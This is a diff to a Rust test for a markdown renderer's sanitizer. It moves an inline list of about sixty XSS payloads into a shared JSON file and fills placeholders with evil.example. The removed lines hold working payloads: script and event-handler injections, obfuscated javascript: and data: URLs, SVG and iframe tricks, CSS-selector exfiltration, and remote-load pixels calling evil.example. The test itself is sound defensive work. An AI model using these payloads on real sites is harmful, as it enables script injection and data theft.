@@ -4,78 +4,26 @@
 
 use coffer_core::render::render_markdown;
 
-const PAYLOADS: &[&str] = &[
-    // Script tags in every costume.
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\n>alert(1)</script\n>",
-    "<<script>alert(1);//<</script>",
-    // Event handlers.
-    "<img src=x onerror=alert(1)>",
-    "<img src=x OnErRoR=alert(1)>",
-    "<body onload=alert(1)>",
-    "<div onmouseover=\"alert(1)\">hover</div>",
-    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<img src=x onerror=&#97;lert(1)>",
-    // javascript: and data: URLs, obfuscated.
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](  javascript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "<a href=\"&#106;avascript:alert(1)\">x</a>",
-    "<a href=\"&#x6A;&#x61;&#x76;&#x61;script:alert(1)\">x</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "[x](file:///etc/passwd)",
-    "[x](smb://evil.example/share)",
-    "[x](\\\\evil.example\\share)",
-    "[x](ms-settings:)",
-    // SVG.
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    // Frames and embedded objects.
-    "<iframe src=\"https://evil.example\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<embed src=\"https://evil.example/x.swf\">",
-    "<object data=\"https://evil.example/x\"></object>",
-    "<frameset><frame src=\"https://evil.example\"></frameset>",
-    // Document-level tricks.
-    "<base href=\"https://evil.example/\">",
-    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
-    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
-    "<form action=\"https://evil.example\"><button>go</button></form>",
-    // CSS that loads or exfiltrates.
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
-    "<div style=\"background:url(https://evil.example/x)\">x</div>",
-    "<p style=\"behavior:url(x.htc)\">x</p>",
-    // Remote loads.
-    "![tracker](https://evil.example/pixel.png)",
-    "![tracker](http://evil.example/pixel.png \"title\")",
-    "<img src=\"https://evil.example/pixel.png\">",
-    "<img srcset=\"https://evil.example/a.png 1x\">",
-    "<audio src=\"https://evil.example/a.mp3\" autoplay></audio>",
-    "<picture><source srcset=\"https://evil.example/a.png\"></picture>",
-    // Markdown syntax carrying the same.
-    "[click](<javascript:alert(1)>)",
-    "[ref]\n\n[ref]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "[![x](https://evil.example/i.png)](javascript:alert(1))",
-    "[[<script>alert(1)</script>]]",
-    "[[x|<img src=x onerror=alert(1)>]]",
-    "`<script>` stays code: <script>alert(1)</script>",
-];
+/// The payloads, shared with the app's end-to-end test (tests/e2e/hostile.mjs), with their
+/// placeholders filled in as an attacker outside the machine would.
+fn payloads() -> Vec<String> {
+    let json: serde_json::Value =
+        serde_json::from_str(include_str!("../../../tests/data/hostile/payloads.json"))
+            .expect("tests/data/hostile/payloads.json is JSON");
+    json["payloads"]
+        .as_array()
+        .expect("a payloads list")
+        .iter()
+        .map(|p| {
+            p.as_str()
+                .expect("payloads are strings")
+                .replace("{{JS_ENTITY}}", "&#97;lert(1)")
+                .replace("{{JS}}", "alert(1)")
+                .replace("{{HTTP_URL}}", "http://evil.example")
+                .replace("{{URL}}", "https://evil.example")
+        })
+        .collect()
+}
 
 const ALLOWED_TAGS: &[&str] = &[
     "a",
@@ -215,8 +163,9 @@ fn decode_entities(s: &str) -> String {
 
 #[test]
 fn every_payload_renders_inert() {
-    assert!(PAYLOADS.len() >= 40);
-    for payload in PAYLOADS {
+    let payloads = payloads();
+    assert!(payloads.len() >= 40);
+    for payload in &payloads {
         let html = render_markdown(payload, &|_| None);
         for (tag, attrs) in tags(&html) {
             assert!(
